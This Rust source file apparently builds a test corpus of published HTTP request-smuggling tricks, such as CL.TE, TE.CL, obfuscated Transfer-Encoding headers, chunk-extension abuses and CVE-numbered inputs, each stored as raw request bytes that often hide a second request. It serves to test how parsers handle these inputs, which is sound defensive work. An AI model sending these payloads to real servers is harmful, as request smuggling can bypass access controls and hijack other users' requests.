//! Published tricks of request smuggling, by their published names or by the number of the defect that let them
//! through.
//!
//! Sources: Kettle, "HTTP Desync Attacks" (2019), "HTTP/2: The Sequel is Always Worse" (2021), "Browser-Powered Desync
//! Attacks" (2022) and "HTTP/1.1 Must Die" (2025); Weikop, "Funky Chunks" (2025); the CVE records named.

use super::Corpus;

/// The fields of a POST with `Host`, and all bytes after them.
const POSTS: [(&str, &str); 79] = [
    ("CL.TE", "Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"),
    (
        "CL.TE-request",
        "Content-Length: 41\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /inside HTTP/1.1\r\nHost: test\r\n\r\n",
    ),
    (
        "TE.CL",
        "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n24\r\nGET /inside HTTP/1.1\r\nHost: test\r\n\r\n\r\n\
         0\r\n\r\n",
    ),
    ("TE.TE-xchunked", "Transfer-Encoding: xchunked\r\nContent-Length: 4\r\n\r\n1\r\nx\r\n0\r\n\r\n"),
    ("TE.TE-space-colon", "Transfer-Encoding : chunked\r\nContent-Length: 4\r\n\r\n1\r\nx\r\n0\r\n\r\n"),
    ("TE.TE-two", "Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n\r\n1\r\nx\r\n0\r\n\r\n"),
    ("TE.TE-two-reversed", "Transfer-Encoding: x\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nx\r\n0\r\n\r\n"),
    ("TE.TE-tab", "Transfer-Encoding:\tchunked\r\nContent-Length: 4\r\n\r\n1\r\nx\r\n0\r\n\r\n"),
    ("TE.TE-leading-space", " Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n1\r\nx\r\n0\r\n\r\n"),
    ("TE.TE-hidden", "X: X\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n1\r\nx\r\n0\r\n\r\n"),
    ("TE.TE-folded-name", "Transfer-Encoding\r\n : chunked\r\nContent-Length: 4\r\n\r\n1\r\nx\r\n0\r\n\r\n"),
    ("TE.TE-folded-value", "Transfer-Encoding:\r\n chunked\r\nContent-Length: 4\r\n\r\n1\r\nx\r\n0\r\n\r\n"),
    ("TE.TE-quoted", "Transfer-Encoding: \"chunked\"\r\nContent-Length: 4\r\n\r\n1\r\nx\r\n0\r\n\r\n"),
    ("TE.TE-vertical-tab", "Transfer-Encoding: \x0bchunked\r\nContent-Length: 4\r\n\r\n1\r\nx\r\n0\r\n\r\n"),
    ("TE.TE-nul", "Transfer-Encoding: chunked\0\r\nContent-Length: 4\r\n\r\n1\r\nx\r\n0\r\n\r\n"),
    ("TE.TE-carriage-return", "X: X\rTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n1\r\nx\r\n0\r\n\r\n"),
    ("TE.TE-identity", "Transfer-Encoding: identity\r\nContent-Length: 5\r\n\r\nhello"),
    (
        "TE.TE-cow",
        "Transfer-Encoding: chunked\r\nTransfer-Encoding: cow\r\nContent-Length: 4\r\n\r\n1\r\nx\r\n0\r\n\r\n",
    ),
    ("TE.0", "Transfer-Encoding: chunked\r\n\r\n25\r\nGET /inside HTTP/1.1\r\nHost: test\r\nA: \r\n0\r\n\r\n"),
    ("CL.0", "Content-Length: 25\r\n\r\nGET /inside HTTP/1.1\r\nX: "),
    ("0.CL-space", "Content-Length : 25\r\n\r\nGET /inside HTTP/1.1\r\nX: "),
    ("0.CL-folded", "Content-Length:\r\n 25\r\n\r\nGET /inside HTTP/1.1\r\nX: "),
    ("0.CL-hidden", "X: y\r\n Content-Length: 25\r\n\r\nGET /inside HTTP/1.1\r\nX: "),
    ("CL.CL", "Content-Length: 0\r\nContent-Length: 25\r\n\r\nGET /inside HTTP/1.1\r\nX: "),
    ("CL.CL-list", "Content-Length: 0, 25\r\n\r\nGET /inside HTTP/1.1\r\nX: "),
    ("H2.CRLF-in-value", "X: y\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /inside HTTP/1.1\r\nX: "),
    ("H2.LF-in-value", "X: y\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /inside HTTP/1.1\r\nX: "),
    ("H2.CR-in-value", "X: y\rTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /inside HTTP/1.1\r\nX: "),
    ("H2.colon-in-name", "Transfer-Encoding:chunked\r\n :\r\n\r\n0\r\n\r\n"),
    ("H2.pseudo-header", ":method: GET\r\n:path: /inside\r\n\r\n"),
    ("Expect-CL.0", "Expect: 100-continue\r\nContent-Length: 25\r\n\r\nGET /inside HTTP/1.1\r\nX: "),
    ("Expect-0.CL", "Expect: y 100-continue\r\nContent-Length: 25\r\n\r\nGET /inside HTTP/1.1\r\nX: "),
    ("Expect-folded", "Expect: \r\n 100-continue\r\nContent-Length: 25\r\n\r\nGET /inside HTTP/1.1\r\nX: "),
    ("hop-by-hop-CL", "Connection: Content-Length\r\nContent-Length: 25\r\n\r\nGET /inside HTTP/1.1\r\nX: "),
    ("hop-by-hop-TE", "Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nx\r\n0\r\n\r\n"),
    (
        "h2c-upgrade",
        "Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nConnection: Upgrade, HTTP2-Settings\r\n\r\n",
    ),
    (
        "TERM.EXT",
        "Transfer-Encoding: chunked\r\n\r\n2;\nxx\r\n29\r\n0\r\n\r\nGET /inside HTTP/1.1\r\nHost: test\r\n\r\n\r\n\
         0\r\n\r\n",
    ),
    (
        "EXT.TERM",
        "Transfer-Encoding: chunked\r\n\r\n2;\nxx\r\n00\r\n24\r\nGET /inside HTTP/1.1\r\nHost: test\r\n\r\n\r\n0\r\n\
         \r\n",
    ),
    (
        "TERM.EXT-CR",
        "Transfer-Encoding: chunked\r\n\r\n2;\rxx\r\n29\r\n0\r\n\r\nGET /inside HTTP/1.1\r\nHost: test\r\n\r\n\r\n\
         0\r\n\r\n",
    ),
    (
        "EXT.TERM-CR",
        "Transfer-Encoding: chunked\r\n\r\n2;\rxx\r\n00\r\n24\r\nGET /inside HTTP/1.1\r\nHost: test\r\n\r\n\r\n0\r\n\
         \r\n",
    ),
    ("TERM.EXT-quoted", "Transfer-Encoding: chunked\r\n\r\n2;a=\"\nxx\r\n0\r\n\r\n\"\r\nhello\r\n0\r\n\r\n"),
    (
        "EXT.TERM-quoted-CRLF",
        "Transfer-Encoding: chunked\r\n\r\n2;a=\"\r\nxx\r\n0\r\n\r\nGET /inside HTTP/1.1\r\nHost: test\r\nX: \"\r\n\
         \r\n",
    ),
    ("TERM.SPILL", "Transfer-Encoding: chunked\r\n\r\n5\r\nhello\n2\r\n0\r\n\r\nGET /inside HTTP/1.1\r\nX: "),
    ("SPILL.TERM", "Transfer-Encoding: chunked\r\n\r\n5\r\nhello0\r\n\r\nGET /inside HTTP/1.1\r\nX: "),
    ("SPILL.TERM-LF", "Transfer-Encoding: chunked\r\n\r\n5\r\nhelloX\n0\r\n\r\nGET /inside HTTP/1.1\r\nX: "),
    ("TERM.SPILL-CR", "Transfer-Encoding: chunked\r\n\r\n5\r\nhello\r0\r\n\r\nGET /inside HTTP/1.1\r\nX: "),
    ("ONE.TWO", "Transfer-Encoding: chunked\r\n\r\n5\r\nhello\n0\r\n\r\nGET /inside HTTP/1.1\r\nX: "),
    ("TWO.ONE", "Transfer-Encoding: chunked\r\n\r\n5\r\nhello\n00\r\n\r\nGET /inside HTTP/1.1\r\nX: "),
    ("ZERO.TWO", "Transfer-Encoding: chunked\r\n\r\n5\r\nhello10\r\n\r\nGET /inside HTTP/1.1\r\nX: "),
    ("TWO.ZERO", "Transfer-Encoding: chunked\r\n\r\n5\r\nhelloxx0\r\n\r\nGET /inside HTTP/1.1\r\nX: "),
    ("TRAIL.TERM", "Transfer-Encoding: chunked\r\n\r\n0\r\nA: b\n\nGET /inside HTTP/1.1\r\nHost: test\r\n\r\n"),
    ("TERM.TRAIL", "Transfer-Encoding: chunked\r\n\r\n0\r\n\nGET /inside HTTP/1.1\r\nHost: test\r\n\r\n"),
    (
        "trailer-as-field",
        "Transfer-Encoding: chunked\r\n\r\n0\r\nTransfer-Encoding: x\r\nContent-Length: 25\r\n\r\n\
         GET /inside HTTP/1.1\r\nHost: test\r\n\r\n",
    ),
    ("CVE-2019-15605", "Transfer-Encoding: chunkedchunked\r\nContent-Length: 5\r\n\r\nhello"),
    ("CVE-2019-16276", "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n"),
    ("CVE-2019-18277", "Transfer-Encoding: \x0bchunked\r\nContent-Length: 5\r\n\r\nhello"),
    ("CVE-2019-20444", "Content-Length\r\nContent-Length: 5\r\n\r\nhello"),
    ("CVE-2020-7238", " Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\nhello"),
    ("CVE-2020-8287", "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked-false\r\n\r\n1\r\nA\r\n0\r\n\r\n"),
    ("CVE-2020-15049", "Content-Length: \"+5\"\r\n\r\nhello"),
    ("CVE-2021-21299", "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n"),
    ("CVE-2021-22959", "Content-Length : 5\r\n\r\nhello"),
    ("CVE-2021-22960", "Transfer-Encoding: chunked\r\n\r\n2  \n;a\r\n0\r\n\r\n"),
    ("CVE-2021-32714", "Transfer-Encoding: chunked\r\n\r\nf0000000000000003\r\nabc\r\n0\r\n\r\n"),
    ("CVE-2021-32715", "Content-Length: +5\r\n\r\nhello"),
    ("CVE-2022-24801-size", "Transfer-Encoding: chunked\r\n\r\n0x5\r\nhello\r\n0\r\n\r\n"),
    ("CVE-2022-24801-extension", "Transfer-Encoding: chunked\r\n\r\n5;\x08\r\nhello\r\n0\r\n\r\n"),
    ("CVE-2022-32215", "Transfer-Encoding: chunked\r\n , identity\r\n\r\n1\r\na\r\n0\r\n\r\n"),
    ("CVE-2022-35256", "X: y\rContent-Length: 5\r\n\r\nhello"),
    ("CVE-2023-25725", ": x\r\nContent-Length: 5\r\n\r\nhello"),
    ("CVE-2023-30589", "X: y\rTransfer-Encoding: chunked\r\n\r\n1\r\nA\r\n0\r\n\r\n"),
    ("CVE-2023-40175", "Content-Length:\r\n\r\nhello"),
    ("CVE-2023-40225", "Content-Length:\r\nContent-Length: 5\r\n\r\nhello"),
    ("CVE-2023-46846", "Transfer-Encoding: chunked\r\n\r\n+5\r\nhello\r\n0\r\n\r\n"),
    ("CVE-2024-1135", "Transfer-Encoding: chunked,gzip\r\nContent-Length: 5\r\n\r\nhello"),
    ("CVE-2025-22871", "Transfer-Encoding: chunked\r\n\r\n5;a\nhello\r\n0\r\n\r\n"),
    ("CVE-2025-43859", "Transfer-Encoding: chunked\r\n\r\n5\r\nAAAAAXX2\r\n45\r\n0\r\n\r\n"),
    ("CVE-2025-55315", "Transfer-Encoding: chunked\r\n\r\n5;\rhello\r\n0\r\n\r\n"),
    ("CVE-2026-66752", "Transfer-Encoding: anything\r\nContent-Length: 5\r\n\r\nhello"),
];

pub(super) fn add(corpus: &mut Corpus) {
    for (name, rest) in POSTS {
        corpus.add(&[b"trick", name.as_bytes()], format!("POST /a HTTP/1.1\r\nHost: test\r\n{rest}").into_bytes());
    }
    // A length of at most 32 bits under a name of more than 256 bytes: the length of the name overflowed.
    let name = format!("Content-Length0{}:", "a".repeat(255));
    let request = format!("POST /a HTTP/1.1\r\nHost: test\r\n{name}\r\nContent-Length: 5\r\n\r\nhello");
    corpus.add(&[b"trick", b"CVE-2021-40346"], request.into_bytes());
    let whole: [(&str, &str); 9] = [
        ("CL.0-get", "GET /a HTTP/1.1\r\nHost: test\r\nContent-Length: 25\r\n\r\nGET /inside HTTP/1.1\r\nX: "),
        ("CL.0-head", "HEAD /a HTTP/1.1\r\nHost: test\r\nContent-Length: 25\r\n\r\nGET /inside HTTP/1.1\r\nX: "),
        ("TE.0-options", "OPTIONS /a HTTP/1.1\r\nHost: test\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nx\r\n0\r\n\r\n"),
        ("pause", "POST /a HTTP/1.1\r\nHost: test\r\nContent-Length: 5000\r\n\r\nGET /inside HTTP/1.1\r\n\r\n"),
        ("line-in-target", "GET /a HTTP/1.1\nX: y HTTP/1.1\r\nHost: test\r\n\r\n"),
        (
            "line-in-method",
            "GET / HTTP/1.1\r\nTransfer-Encoding: chunked\r\nx: x /a HTTP/1.1\r\nHost: test\r\n\r\n0\r\n\r\n",
        ),
        ("CVE-2017-7656", "GET /a? HTTP/0.9\r\nHost: test\r\n\r\n"),
        (
            "CVE-2021-33037",
            "POST /a HTTP/1.0\r\nConnection: keep-alive\r\nTransfer-Encoding: identity, chunked\r\n\r\n0\r\n\r\n",
        ),
        ("CVE-2023-45539", "GET /a#.png HTTP/1.1\r\nHost: test\r\n\r\n"),
    ];
    for (name, request) in whole {
        corpus.add(&[b"trick", name.as_bytes()], request.as_bytes().to_vec());
    }
}
